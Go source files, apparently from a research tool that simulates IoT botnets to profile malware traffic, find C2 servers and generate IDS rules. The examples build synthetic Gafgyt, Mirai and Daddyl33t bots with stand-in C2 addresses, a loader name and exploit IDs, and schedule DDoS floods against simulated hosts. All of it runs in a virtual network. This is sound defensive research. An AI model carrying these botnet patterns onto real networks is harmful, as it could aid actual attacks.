	"malnet/internal/cli"
	"malnet/internal/obs"
	"malnet/internal/obs/redplane"
	"malnet/internal/serve"
)

func main() {
	dir := flag.String("checkpoint-dir", "", "directory of day-NNN.ckpt study snapshots — or a run lake — to serve (required)")
	branch := flag.String("branch", "main", "lake branch the default store tracks (lake directories only)")
	listen := flag.String("listen", "127.0.0.1:8377", "address to serve the /v1 API on (use :0 for an ephemeral port)")
	reload := flag.Duration("reload-every", 5*time.Second, "how often to check -checkpoint-dir for a newer snapshot (0 = never)")
	accessLog := flag.String("access-log", "", "append one JSON line per request (id, endpoint, status, stages) to FILE")
	slowThreshold := flag.Duration("slowlog-threshold", 250*time.Millisecond, "record requests at least this slow in /debug/slowlog (0 = record everything, negative = disable)")
	slowCap := flag.Int("slowlog-cap", 64, "how many recent slow requests /debug/slowlog retains")
	var obsFlags cli.ObsFlags
	obsFlags.RegisterDebug(flag.CommandLine)
	flag.Parse()

	if *dir == "" {
		fmt.Fprintln(os.Stderr, "malnetd: -checkpoint-dir is required")
		flag.Usage()
		os.Exit(2)
	}

	redOpts := redplane.Options{SlowThreshold: *slowThreshold, SlowCap: *slowCap}
	if *accessLog != "" {
		fh, err := os.OpenFile(*accessLog, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
		if err != nil {
			fmt.Fprintf(os.Stderr, "malnetd: %v\n", err)
			os.Exit(1)
		}
		defer fh.Close()
		redOpts.AccessLog = fh
	}
	red := redplane.New(redOpts)

	wall := obs.NewWall()
	srv, err := serve.New(*dir, wall, serve.WithRedPlane(red), serve.WithBranch(*branch))
	if err != nil {
		fmt.Fprintf(os.Stderr, "malnetd: %v\n", err)
		os.Exit(1)
	}
	st := srv.Store()
	fmt.Fprintf(os.Stderr, "malnetd: serving snapshot day %d (generation %.12s…) from %s\n",
		st.Day, st.Generation, *dir)
	if st.SkippedCorrupt > 0 {
		fmt.Fprintf(os.Stderr, "malnetd: skipped %d corrupt snapshot(s)\n", st.SkippedCorrupt)
	}

	if obsFlags.DebugAddr != "" {
		wall.PublishExpvar("malnetd")
		dbg, addr, err := obs.ServeDebug(obsFlags.DebugAddr, wall, red.Mount)
		if err != nil {
			fmt.Fprintf(os.Stderr, "malnetd: %v\n", err)
			os.Exit(1)
		}
		defer dbg.Close()
		fmt.Fprintf(os.Stderr, "debug server on http://%s/debug/pprof/ (also /metrics, /debug/slowlog, /debug/vars, /debug/wall)\n", addr)
	}

	if *reload > 0 {
		go func() {
			for range time.Tick(*reload) {
				changed, err := srv.Reload()
				switch {
				case err != nil:
					fmt.Fprintf(os.Stderr, "malnetd: reload: %v\n", err)
				case changed:
					st := srv.Store()
					fmt.Fprintf(os.Stderr, "malnetd: reloaded snapshot day %d (generation %.12s…)\n",
						st.Day, st.Generation)
				}
			}
		}()
	}

	ln, err := net.Listen("tcp", *listen)
	if err != nil {
		fmt.Fprintf(os.Stderr, "malnetd: %v\n", err)
		os.Exit(1)
	}
	// The bound address goes to stdout so scripts using -listen :0 can
	// capture it; all logging stays on stderr.
	fmt.Printf("listening on http://%s\n", ln.Addr())
	if err := http.Serve(ln, srv.Handler()); err != nil {
		fmt.Fprintf(os.Stderr, "malnetd: %v\n", err)
		os.Exit(1)
	}
}
