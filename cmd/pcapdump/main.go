// Command pcapdump prints a tcpdump-style summary of a LINKTYPE_RAW
// capture produced by the sandbox (see sandbox.Report.WritePCAP).
// With no file argument it runs a demo: activates one sample, writes
// its capture to a temporary file, and dumps it.
//
// Usage:
//
//	pcapdump [capture.pcap]
package main

import (
	"fmt"
	"io"
	"math/rand"
	"os"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/packet"
	"malnet/internal/pcap"
	"malnet/internal/sandbox"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

func main() {
	var in io.Reader
	if len(os.Args) > 1 {
		f, err := os.Open(os.Args[1])
		if err != nil {
			fatal(err)
		}
		defer f.Close()
		in = f
	} else {
		in = demoCapture()
	}
	r, err := pcap.NewReader(in)
	if err != nil {
		fatal(err)
	}
	if r.Link != pcap.LinkTypeRaw {
		fatal(fmt.Errorf("unsupported link type %d (want %d)", r.Link, pcap.LinkTypeRaw))
	}
	n := 0
	for {
		rec, err := r.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			fatal(err)
		}
		n++
		fmt.Printf("%s %s\n", rec.Time.Format("15:04:05.000000"), summarize(rec.Data))
	}
	fmt.Printf("%d packets\n", n)
}

// summarize renders one frame tcpdump-style.
func summarize(frame []byte) string {
	p, err := packet.Decode(frame)
	if err != nil {
		return fmt.Sprintf("undecodable %d bytes: %v", len(frame), err)
	}
	switch {
	case p.TCP != nil:
		flags := ""
		for _, f := range []struct {
			on bool
			c  string
		}{{p.TCP.SYN, "S"}, {p.TCP.ACK, "."}, {p.TCP.PSH, "P"}, {p.TCP.FIN, "F"}, {p.TCP.RST, "R"}} {
			if f.on {
				flags += f.c
			}
		}
		return fmt.Sprintf("IP %s.%d > %s.%d: Flags [%s], length %d",
			p.IP.SrcIP, p.TCP.SrcPort, p.IP.DstIP, p.TCP.DstPort, flags, len(p.Payload))
	case p.UDP != nil:
		extra := ""
		if p.UDP.DstPort == 53 || p.UDP.SrcPort == 53 {
			if m, err := packet.DecodeDNS(p.Payload); err == nil && len(m.Questions) > 0 {
				kind := "query"
				if m.Response {
					kind = "response"
				}
				extra = fmt.Sprintf(" DNS %s %s", kind, m.Questions[0].Name)
			}
		}
		return fmt.Sprintf("IP %s.%d > %s.%d: UDP, length %d%s",
			p.IP.SrcIP, p.UDP.SrcPort, p.IP.DstIP, p.UDP.DstPort, len(p.Payload), extra)
	case p.ICMP != nil:
		return fmt.Sprintf("IP %s > %s: ICMP type %d code %d",
			p.IP.SrcIP, p.IP.DstIP, p.ICMP.Type, p.ICMP.Code)
	}
	return fmt.Sprintf("IP %s > %s: proto %d, length %d", p.IP.SrcIP, p.IP.DstIP, p.IP.Protocol, len(p.Payload))
}

// demoCapture runs one sample and returns its capture.
func demoCapture() io.Reader {
	clock := simclock.New(time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC))
	net := simnet.New(clock, simnet.DefaultConfig())
	sb := sandbox.New(net, sandbox.Config{Seed: 1})
	raw, err := binfmt.Encode(binfmt.BotConfig{
		Family: "gafgyt", Variant: "v1",
		C2Addrs: []string{"cnc.demo.example:666"},
	}, rand.New(rand.NewSource(2)), nil)
	if err != nil {
		fatal(err)
	}
	rep, err := sb.Run(raw, sandbox.RunOptions{Mode: sandbox.ModeIsolated, Duration: 5 * time.Minute})
	if err != nil {
		fatal(err)
	}
	pr, pw := io.Pipe()
	go func() {
		pw.CloseWithError(rep.WritePCAP(pw, 4))
	}()
	return pr
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "pcapdump:", err)
	os.Exit(1)
}
