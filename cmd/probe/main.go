// Command probe runs a standalone D-PC2-style active-probing study:
// it builds a small world with elusive C2 servers planted in probing
// subnets, sweeps them with weaponized Mirai and Gafgyt handshakes,
// and prints the Figure 4 raster.
//
// Usage:
//
//	probe [-seed N] [-rounds N] [-interval DUR]
package main

import (
	"flag"
	"fmt"
	"net/netip"
	"time"

	"malnet/internal/c2"
	"malnet/internal/core"
	"malnet/internal/report"
	"malnet/internal/world"
)

func main() {
	var (
		seed     = flag.Int64("seed", 1, "world seed")
		rounds   = flag.Int("rounds", 84, "probe rounds (paper: 84 = 2 weeks at 4h)")
		interval = flag.Duration("interval", 0, "probe interval (default 4h)")
	)
	flag.Parse()

	wcfg := world.DefaultConfig(*seed)
	wcfg.TotalSamples = 10 // the probing study needs only the planted servers
	w := world.Generate(wcfg)
	w.Clock.RunUntil(w.ProbeStart)

	// Both weaponized sweeps run over the same two-week window,
	// interleaved on the shared clock (as the study driver does).
	merged := map[string]*core.ProbeTarget{}
	var studies []*core.ProbeStudy
	for i, family := range []string{c2.FamilyMirai, c2.FamilyGafgyt} {
		studies = append(studies, core.ScheduleProbing(w.Net, core.ProbeConfig{
			Subnets:  w.ProbeSubnets,
			Rounds:   *rounds,
			Interval: *interval,
			Family:   family,
			SourceIP: netip.AddrFrom4([4]byte{10, 98, 0, byte(2 + i)}),
		}))
	}
	last := studies[len(studies)-1]
	w.Clock.RunUntil(last.Started.Add(time.Duration(last.Config.Rounds)*last.Config.Interval + last.Config.EngageTimeout + time.Second))
	for i, family := range []string{c2.FamilyMirai, c2.FamilyGafgyt} {
		study := studies[i]
		fmt.Printf("%s sweep: %d probes, %d live C2s\n", family, study.ProbesSent, len(study.LiveC2s))
		for _, t := range study.LiveC2s {
			if _, ok := merged[t.Addr.String()]; !ok {
				merged[t.Addr.String()] = t
			}
		}
	}

	var rows [][]bool
	var labels []string
	var after, miss int
	for addr, t := range merged {
		labels = append(labels, addr)
		row := make([]bool, len(t.Outcomes))
		for i, o := range t.Outcomes {
			row[i] = o == core.ProbeEngaged
			if i > 0 && t.Outcomes[i-1] == core.ProbeEngaged {
				after++
				if t.Outcomes[i] != core.ProbeEngaged {
					miss++
				}
			}
		}
		rows = append(rows, row)
	}
	fmt.Print(report.Raster("probe responses (# = engaged)", rows, labels))
	if after > 0 {
		fmt.Printf("second-probe miss rate: %.1f%% over %d pairs (paper: 91%%)\n",
			100*float64(miss)/float64(after), after)
	}
}
