// Command rulecheck replays a capture through a MalNet-generated
// rule file and prints the alerts — the consumer side of the paper's
// "firewalls and NIDS incorporate rules provided by our service"
// loop (§6a). With no arguments it runs a demo: generates rules from
// a tiny study, replays an infected host's capture against them.
//
// Usage:
//
//	rulecheck [rules.file capture.pcap]
package main

import (
	"bytes"
	"fmt"
	"os"
	"time"

	"malnet/internal/core"
	"malnet/internal/flow"
	"malnet/internal/ids"
	"malnet/internal/sandbox"
	"malnet/internal/simnet"
	"malnet/internal/world"
)

func main() {
	var rules []*ids.Rule
	var records []simnet.PacketRecord
	var err error

	if len(os.Args) == 3 {
		text, rerr := os.ReadFile(os.Args[1])
		if rerr != nil {
			fatal(rerr)
		}
		rules, err = ids.ParseAll(string(text))
		if err != nil {
			fatal(err)
		}
		f, ferr := os.Open(os.Args[2])
		if ferr != nil {
			fatal(ferr)
		}
		defer f.Close()
		records, err = flow.ReadRecords(f)
		if err != nil {
			fatal(err)
		}
	} else {
		rules, records = demo()
	}

	engine := ids.NewEngine(rules)
	dropped := 0
	for _, rec := range records {
		if !engine.Inspect(rec.Time, rec) {
			dropped++
		}
	}
	fmt.Printf("replayed %d records against %d rules: %d alerts, %d would be dropped\n",
		len(records), len(rules), len(engine.Alerts), dropped)
	shown := 0
	for _, a := range engine.Alerts {
		fmt.Printf("  [%d] %s  %s -> %s\n", a.SID, a.Msg, a.Rec.Src, a.Rec.Dst)
		if shown++; shown == 15 {
			fmt.Printf("  ... and %d more\n", len(engine.Alerts)-shown)
			break
		}
	}
}

// demo builds rules from a small study and a capture from a freshly
// infected host calling one of the profiled C2s.
func demo() ([]*ids.Rule, []simnet.PacketRecord) {
	wcfg := world.DefaultConfig(5)
	wcfg.TotalSamples = 60
	w := world.Generate(wcfg)
	scfg := core.DefaultStudyConfig(5)
	scfg.Analysis.Probing = false
	st := core.RunStudy(w, scfg)
	rules := core.GenerateRules(st)
	fmt.Printf("demo: generated %d rules from a %d-sample study\n", len(rules), len(st.Samples))

	// Re-run one sample live and capture its traffic: the rules
	// must light up on its call-home.
	var spec = w.Samples[0]
	for _, s := range w.Samples {
		if !s.P2P && len(s.C2Refs) > 0 {
			spec = s
			break
		}
	}
	raw, err := spec.Binary()
	if err != nil {
		fatal(err)
	}
	sb := sandbox.New(w.Net, sandbox.Config{DNS: w.Resolve, Seed: 99})
	rep, err := sb.Run(raw, sandbox.RunOptions{Mode: sandbox.ModeLive, Duration: 10 * time.Minute, DisableScanning: true})
	if err != nil {
		fatal(err)
	}
	var buf bytes.Buffer
	if err := rep.WritePCAP(&buf, 8); err != nil {
		fatal(err)
	}
	records, err := flow.ReadRecords(&buf)
	if err != nil {
		fatal(err)
	}
	return rules, records
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "rulecheck:", err)
	os.Exit(1)
}
