// c2hunt: weaponized probing for live C2 servers (CnCHunter's second
// mode, §2.1). A subnet with a history of malicious activity hides a
// couple of elusive C2 servers among dead hosts and ordinary web
// servers; we sweep it for two weeks at a 4-hour interval with a
// weaponized Mirai handshake and watch the servers flicker on and
// off — the paper's Figure 4.
package main

import (
	"fmt"
	"time"

	"malnet"
	"malnet/internal/c2"
	"malnet/internal/core"
	"malnet/internal/report"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

func main() {
	t0 := time.Date(2021, 11, 8, 0, 0, 0, 0, time.UTC)
	clock := simclock.New(t0)
	net := simnet.New(clock, simnet.DefaultConfig())
	subnet := simnet.SubnetFrom("203.0.113.0/24")

	// Two elusive Mirai C2s with the paper-calibrated duty cycle.
	for i, host := range []int{30, 77} {
		c2.NewServer(net, c2.ServerConfig{
			Family: c2.FamilyMirai,
			Addr:   simnet.Addr{IP: subnet.HostAt(host), Port: 1312},
			Birth:  t0.Add(-24 * time.Hour),
			Death:  t0.Add(20 * 24 * time.Hour),
			Duty:   c2.DefaultDutyCycle(int64(100 + i)),
		})
	}
	// An innocent nginx the ethics filter must skip.
	net.AddHost(subnet.HostAt(120)).ServeBanner(1312, "HTTP/1.1 200 OK\r\nServer: nginx/1.18.0\r\n\r\n")

	study := malnet.RunProbing(net, malnet.ProbeConfig{
		Subnets:  []simnet.Subnet{subnet},
		Ports:    []uint16{1312},
		Interval: 4 * time.Hour,
		Rounds:   84, // two weeks
		Family:   c2.FamilyMirai,
	})

	fmt.Printf("swept %d probes across %s; %d live C2 server(s) found\n\n",
		study.ProbesSent, subnet, len(study.LiveC2s))

	var rows [][]bool
	var labels []string
	for _, t := range study.LiveC2s {
		labels = append(labels, t.Addr.String())
		row := make([]bool, len(t.Outcomes))
		for i, o := range t.Outcomes {
			row[i] = o == core.ProbeEngaged
		}
		rows = append(rows, row)
	}
	fmt.Print(report.Raster("probe responses over two weeks (6 probes/day)", rows, labels))

	miss, pairs := study.SecondProbeMissRate()
	fmt.Printf("\nsecond-probe miss rate: %.1f%% over %d success pairs (paper: 91%%)\n", 100*miss, pairs)
	fmt.Printf("longest same-day streak: %d (paper: never 6/6)\n", study.MaxDailyStreak())
}
