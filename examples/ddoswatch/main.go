// ddoswatch: live DDoS-command eavesdropping (§2.5 / §5). A
// Daddyl33t C2 issues a burst of attacks — including the
// two-attacks-one-target session of §5.2 — while a bot runs in the
// restricted sandbox; the pipeline extracts every command from the
// C2 traffic and classifies the attack types and target protocols.
package main

import (
	"fmt"
	"math/rand"
	"net/netip"
	"time"

	"malnet"
	"malnet/internal/analysis"
	"malnet/internal/binfmt"
	"malnet/internal/c2"
	"malnet/internal/core"
	"malnet/internal/report"
	"malnet/internal/results"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

func main() {
	t0 := time.Date(2022, 2, 1, 0, 0, 0, 0, time.UTC)
	clock := simclock.New(t0)
	net := simnet.New(clock, simnet.DefaultConfig())

	srv := c2.NewServer(net, c2.ServerConfig{
		Family:   c2.FamilyDaddyl33t,
		Addr:     simnet.AddrFrom("46.28.0.9", 1312),
		Birth:    t0,
		Death:    t0.Add(14 * 24 * time.Hour),
		AlwaysOn: true,
	})

	target := netip.MustParseAddr("70.0.0.42")
	schedule := []struct {
		at  time.Duration
		cmd c2.Command
	}{
		{10 * time.Minute, c2.Command{Attack: c2.AttackUDPFlood, Target: netip.MustParseAddr("70.0.0.10"), Port: 80, Duration: 30 * time.Second}},
		// The §5.2 double session: TLS then HYDRASYN on one target.
		{25 * time.Minute, c2.Command{Attack: c2.AttackTLS, Target: target, Port: 4567, Duration: 30 * time.Second}},
		{35 * time.Minute, c2.Command{Attack: c2.AttackSYNFlood, Target: target, Port: 4567, Duration: 30 * time.Second}},
		{50 * time.Minute, c2.Command{Attack: c2.AttackBlacknurse, Target: netip.MustParseAddr("70.0.0.12"), Duration: 20 * time.Second}},
		{65 * time.Minute, c2.Command{Attack: c2.AttackNFO, Target: netip.MustParseAddr("70.0.0.13"), Port: 238, Duration: 20 * time.Second}},
	}
	for _, s := range schedule {
		srv.ScheduleAttack(t0.Add(s.at), s.cmd, 3)
	}

	raw, err := binfmt.Encode(binfmt.BotConfig{
		Family: "daddyl33t", Variant: "v1", C2Addrs: []string{"46.28.0.9:1312"},
	}, rand.New(rand.NewSource(5)), nil)
	if err != nil {
		panic(err)
	}
	sb := malnet.NewSandbox(net, malnet.SandboxConfig{Seed: 5})
	rep, err := sb.Run(raw, malnet.RunOptions{
		Mode:         malnet.ModeLive,
		Duration:     2 * time.Hour,
		RestrictToC2: true,
	})
	if err != nil {
		panic(err)
	}

	cands := malnet.DetectC2(rep, 1)
	obs := core.ExtractDDoS(rep, "daddyl33t", cands, core.DefaultDDoSExtractorConfig())

	fmt.Printf("watched sample %s for 2h; %d commands extracted (server issued %d)\n\n",
		rep.SHA256[:12], len(obs), len(srv.Issued))
	protos := analysis.NewHistogram()
	byTarget := map[string][]string{}
	for _, o := range obs {
		fmt.Printf("  %s\n", o)
		protos.Add(results.AttackProto(o), 1)
		k := o.Command.Target.String()
		byTarget[k] = append(byTarget[k], o.Command.Attack.String())
	}
	fmt.Println()
	fmt.Print(report.Bars("attacks by target protocol", protos.Sorted(), 20))
	for tgt, types := range byTarget {
		if len(types) > 1 {
			fmt.Printf("\ntarget %s was hit by %d attack types in one session: %v\n", tgt, len(types), types)
		}
	}
}
