// Quickstart: profile a single freshly-caught IoT malware binary —
// the paper's core workflow in ~40 lines. We build one synthetic
// MIPS sample, activate it in the isolated sandbox, and print its
// network profile: the C2 endpoints it calls home to, the DNS names
// it resolves, and the exploits it fires at victims.
package main

import (
	"fmt"
	"math/rand"
	"time"

	"malnet"
	"malnet/internal/binfmt"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

func main() {
	// A virtual Internet and a sandbox on it.
	clock := simclock.New(time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC))
	net := simnet.New(clock, simnet.DefaultConfig())
	sb := malnet.NewSandbox(net, malnet.SandboxConfig{Seed: 1})

	// A "freshly caught" sample: a Gafgyt bot with a DNS C2 and a
	// GPON exploit kit. In a real deployment these bytes come off
	// the VirusTotal / MalwareBazaar feed.
	raw, err := binfmt.Encode(binfmt.BotConfig{
		Family:         "gafgyt",
		Variant:        "v1",
		C2Addrs:        []string{"cnc.fresh-botnet.xyz:6738", "60.0.0.77:666"},
		ScanPorts:      []uint16{23, 80},
		ExploitIDs:     []string{"gpon-rce"},
		LoaderName:     "8UsA.sh",
		DownloaderAddr: "60.0.0.77:80",
	}, rand.New(rand.NewSource(7)), nil)
	if err != nil {
		panic(err)
	}

	// Activate it: isolated mode (fake Internet), handshaker armed.
	rep, err := sb.Run(raw, malnet.RunOptions{
		Mode:                malnet.ModeIsolated,
		Duration:            20 * time.Minute,
		HandshakerThreshold: 20,
	})
	if err != nil {
		panic(err)
	}

	fmt.Printf("sample %s (%d bytes, family ground truth: %s)\n\n",
		rep.SHA256[:16], len(raw), rep.Config.Family)

	fmt.Println("C2 endpoints detected from traffic:")
	for _, c := range malnet.DetectC2(rep, 2) {
		fmt.Printf("  %-28s kind=%-3s attempts=%-3d signature=%s\n",
			c.Address, c.Kind, c.Attempts, c.Signature)
	}

	fmt.Println("\nDNS queries observed:")
	for name, ip := range rep.Resolutions {
		fmt.Printf("  %s -> %s\n", name, ip)
	}

	fmt.Println("\nexploits captured by the handshaker:")
	for _, f := range malnet.ClassifyExploits(rep) {
		for _, v := range f.Vulns {
			fmt.Printf("  %-16s port %-5d loader=%s downloader=%s\n",
				v.Label(), f.Port, f.Loader, f.Downloader)
		}
	}

	fmt.Printf("\ncaptured %d packets in the analysis window\n", len(rep.Capture))
}
