module malnet

go 1.22
