// Package analysis provides the measurement statistics the study's
// tables and figures are built from: empirical CDFs, histograms,
// weekly heatmap grids, and share/ranking helpers. It is a generic
// layer: the per-experiment aggregation lives in internal/results.
package analysis

import (
	"fmt"
	"math"
	"sort"
)

// CDF is an empirical cumulative distribution over float64 samples.
type CDF struct {
	sorted []float64
}

// NewCDF builds a CDF from samples (copied and sorted).
func NewCDF(samples []float64) *CDF {
	s := append([]float64(nil), samples...)
	sort.Float64s(s)
	return &CDF{sorted: s}
}

// N returns the sample count.
func (c *CDF) N() int { return len(c.sorted) }

// At returns P(X <= x).
func (c *CDF) At(x float64) float64 {
	if len(c.sorted) == 0 {
		return 0
	}
	i := sort.SearchFloat64s(c.sorted, math.Nextafter(x, math.Inf(1)))
	return float64(i) / float64(len(c.sorted))
}

// Percentile returns the smallest x with P(X <= x) >= p, for p in
// (0, 1].
func (c *CDF) Percentile(p float64) float64 {
	if len(c.sorted) == 0 {
		return math.NaN()
	}
	if p <= 0 {
		return c.sorted[0]
	}
	if p > 1 {
		p = 1
	}
	i := int(math.Ceil(p*float64(len(c.sorted)))) - 1
	if i < 0 {
		i = 0
	}
	if i >= len(c.sorted) {
		i = len(c.sorted) - 1
	}
	return c.sorted[i]
}

// Mean returns the sample mean.
func (c *CDF) Mean() float64 {
	if len(c.sorted) == 0 {
		return math.NaN()
	}
	sum := 0.0
	for _, v := range c.sorted {
		sum += v
	}
	return sum / float64(len(c.sorted))
}

// Max returns the largest sample.
func (c *CDF) Max() float64 {
	if len(c.sorted) == 0 {
		return math.NaN()
	}
	return c.sorted[len(c.sorted)-1]
}

// Point is one (x, P(X<=x)) pair.
type Point struct {
	X, P float64
}

// Series returns the CDF evaluated at each distinct sample value —
// the data behind the paper's CDF figures.
func (c *CDF) Series() []Point {
	var out []Point
	n := float64(len(c.sorted))
	for i := 0; i < len(c.sorted); i++ {
		if i+1 < len(c.sorted) && c.sorted[i+1] == c.sorted[i] {
			continue
		}
		out = append(out, Point{X: c.sorted[i], P: float64(i+1) / n})
	}
	return out
}

// Histogram counts occurrences per label, retaining insertion order
// of first appearance.
type Histogram struct {
	counts map[string]int
	order  []string
}

// NewHistogram returns an empty histogram.
func NewHistogram() *Histogram {
	return &Histogram{counts: map[string]int{}}
}

// Add increments label by n.
func (h *Histogram) Add(label string, n int) {
	if _, ok := h.counts[label]; !ok {
		h.order = append(h.order, label)
	}
	h.counts[label] += n
}

// Count returns label's count.
func (h *Histogram) Count(label string) int { return h.counts[label] }

// Total returns the sum of all counts.
func (h *Histogram) Total() int {
	t := 0
	for _, c := range h.counts {
		t += c
	}
	return t
}

// Share returns label's fraction of the total.
func (h *Histogram) Share(label string) float64 {
	t := h.Total()
	if t == 0 {
		return 0
	}
	return float64(h.counts[label]) / float64(t)
}

// Entry is a labeled count.
type Entry struct {
	Label string
	Count int
}

// Sorted returns entries by descending count (ties: label order).
func (h *Histogram) Sorted() []Entry {
	out := make([]Entry, 0, len(h.order))
	for _, l := range h.order {
		out = append(out, Entry{l, h.counts[l]})
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i].Count > out[j].Count })
	return out
}

// Labels returns labels in first-appearance order.
func (h *Histogram) Labels() []string { return append([]string(nil), h.order...) }

// Grid is a labeled 2-D counting grid (Figure 1's heatmap).
type Grid struct {
	Rows, Cols []string
	rowIdx     map[string]int
	colIdx     map[string]int
	cells      [][]int
}

// NewGrid builds a zeroed grid with fixed axes.
func NewGrid(rows, cols []string) *Grid {
	g := &Grid{
		Rows: rows, Cols: cols,
		rowIdx: map[string]int{}, colIdx: map[string]int{},
	}
	for i, r := range rows {
		g.rowIdx[r] = i
	}
	for i, c := range cols {
		g.colIdx[c] = i
	}
	g.cells = make([][]int, len(rows))
	for i := range g.cells {
		g.cells[i] = make([]int, len(cols))
	}
	return g
}

// Add increments (row, col) by n; unknown labels are ignored (data
// outside the grid's frame, e.g. calendar gaps).
func (g *Grid) Add(row, col string, n int) {
	i, ok := g.rowIdx[row]
	if !ok {
		return
	}
	j, ok := g.colIdx[col]
	if !ok {
		return
	}
	g.cells[i][j] += n
}

// At returns the (row, col) count.
func (g *Grid) At(row, col string) int {
	i, ok := g.rowIdx[row]
	if !ok {
		return 0
	}
	j, ok := g.colIdx[col]
	if !ok {
		return 0
	}
	return g.cells[i][j]
}

// Max returns the largest cell value.
func (g *Grid) Max() int {
	m := 0
	for _, row := range g.cells {
		for _, v := range row {
			if v > m {
				m = v
			}
		}
	}
	return m
}

// RowTotal sums a row.
func (g *Grid) RowTotal(row string) int {
	i, ok := g.rowIdx[row]
	if !ok {
		return 0
	}
	t := 0
	for _, v := range g.cells[i] {
		t += v
	}
	return t
}

// ColTotal sums a column.
func (g *Grid) ColTotal(col string) int {
	j, ok := g.colIdx[col]
	if !ok {
		return 0
	}
	t := 0
	for i := range g.cells {
		t += g.cells[i][j]
	}
	return t
}

// TopShare returns the combined share of the k largest groups in a
// histogram — e.g. "10 ASes host 69.7 % of C2s".
func TopShare(h *Histogram, k int) float64 {
	entries := h.Sorted()
	if k > len(entries) {
		k = len(entries)
	}
	top := 0
	for _, e := range entries[:k] {
		top += e.Count
	}
	t := h.Total()
	if t == 0 {
		return 0
	}
	return float64(top) / float64(t)
}

// FmtPct renders a fraction as "12.3%".
func FmtPct(f float64) string { return fmt.Sprintf("%.1f%%", 100*f) }
