package analysis

import (
	"math"
	"sort"
	"testing"
	"testing/quick"
)

func TestCDFBasics(t *testing.T) {
	c := NewCDF([]float64{1, 2, 2, 3, 10})
	if c.N() != 5 {
		t.Fatalf("N = %d", c.N())
	}
	if got := c.At(2); got != 0.6 {
		t.Fatalf("At(2) = %v, want 0.6", got)
	}
	if got := c.At(0.5); got != 0 {
		t.Fatalf("At(0.5) = %v", got)
	}
	if got := c.At(10); got != 1 {
		t.Fatalf("At(10) = %v", got)
	}
	if got := c.Mean(); math.Abs(got-3.6) > 1e-9 {
		t.Fatalf("Mean = %v", got)
	}
	if got := c.Max(); got != 10 {
		t.Fatalf("Max = %v", got)
	}
}

func TestCDFPercentile(t *testing.T) {
	c := NewCDF([]float64{1, 2, 3, 4, 5, 6, 7, 8, 9, 10})
	if got := c.Percentile(0.5); got != 5 {
		t.Fatalf("P50 = %v", got)
	}
	if got := c.Percentile(1.0); got != 10 {
		t.Fatalf("P100 = %v", got)
	}
	if got := c.Percentile(0.05); got != 1 {
		t.Fatalf("P5 = %v", got)
	}
}

func TestCDFEmpty(t *testing.T) {
	c := NewCDF(nil)
	if c.At(1) != 0 {
		t.Fatal("empty CDF At != 0")
	}
	if !math.IsNaN(c.Mean()) || !math.IsNaN(c.Percentile(0.5)) {
		t.Fatal("empty CDF stats not NaN")
	}
}

func TestCDFSeriesMonotonic(t *testing.T) {
	c := NewCDF([]float64{5, 1, 3, 3, 2, 8})
	pts := c.Series()
	for i := 1; i < len(pts); i++ {
		if pts[i].X <= pts[i-1].X || pts[i].P < pts[i-1].P {
			t.Fatalf("series not monotonic at %d: %+v", i, pts)
		}
	}
	if pts[len(pts)-1].P != 1 {
		t.Fatalf("series does not end at 1: %v", pts[len(pts)-1].P)
	}
}

func TestQuickCDFAtBounds(t *testing.T) {
	f := func(raw []float64) bool {
		var clean []float64
		for _, v := range raw {
			if !math.IsNaN(v) && !math.IsInf(v, 0) {
				clean = append(clean, v)
			}
		}
		c := NewCDF(clean)
		if len(clean) == 0 {
			return true
		}
		sort.Float64s(clean)
		return c.At(clean[len(clean)-1]) == 1 && c.At(clean[0]) >= 1/float64(len(clean))
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestHistogram(t *testing.T) {
	h := NewHistogram()
	h.Add("a", 3)
	h.Add("b", 5)
	h.Add("a", 2)
	if h.Count("a") != 5 || h.Count("b") != 5 {
		t.Fatalf("counts %d %d", h.Count("a"), h.Count("b"))
	}
	if h.Total() != 10 {
		t.Fatalf("total %d", h.Total())
	}
	if h.Share("a") != 0.5 {
		t.Fatalf("share %v", h.Share("a"))
	}
	sorted := h.Sorted()
	if len(sorted) != 2 || sorted[0].Label != "a" { // stable tie-break: insertion order
		t.Fatalf("sorted %v", sorted)
	}
}

func TestTopShare(t *testing.T) {
	h := NewHistogram()
	h.Add("big", 70)
	h.Add("small1", 20)
	h.Add("small2", 10)
	if got := TopShare(h, 1); got != 0.7 {
		t.Fatalf("TopShare(1) = %v", got)
	}
	if got := TopShare(h, 5); got != 1 {
		t.Fatalf("TopShare(5) = %v", got)
	}
}

func TestGrid(t *testing.T) {
	g := NewGrid([]string{"r1", "r2"}, []string{"c1", "c2", "c3"})
	g.Add("r1", "c2", 3)
	g.Add("r1", "c2", 1)
	g.Add("r2", "c3", 7)
	g.Add("nope", "c1", 99) // silently ignored
	g.Add("r1", "nope", 99)
	if g.At("r1", "c2") != 4 || g.At("r2", "c3") != 7 || g.At("r1", "c1") != 0 {
		t.Fatal("cell values wrong")
	}
	if g.Max() != 7 {
		t.Fatalf("Max = %d", g.Max())
	}
	if g.RowTotal("r1") != 4 || g.ColTotal("c3") != 7 {
		t.Fatal("totals wrong")
	}
}

func TestFmtPct(t *testing.T) {
	if got := FmtPct(0.697); got != "69.7%" {
		t.Fatalf("FmtPct = %q", got)
	}
}
