// Package avclass implements an AVClass2-style family labeler: it
// normalizes the noisy per-vendor detection names a scanning service
// returns for a sample and picks the plurality family token.
//
// The paper notes AVClass2 "seems to be often unreliable for MIPS
// binaries" — e.g. every Mozi sample is labeled Mirai. That behavior
// is reproduced here (vendors in internal/intel emit mirai-flavored
// names for Mozi), so the pipeline exercises the same
// misclassification-handling path the authors needed.
package avclass

import (
	"sort"
	"strings"
)

// Detection is one vendor's verdict for a sample.
type Detection struct {
	// Vendor is the engine name.
	Vendor string
	// Label is the raw detection string, e.g.
	// "Linux.Mirai.B!tr" or "Trojan:Linux/Gafgyt.SM".
	Label string
}

// genericTokens are dropped during normalization, mirroring
// AVClass2's generic-token list.
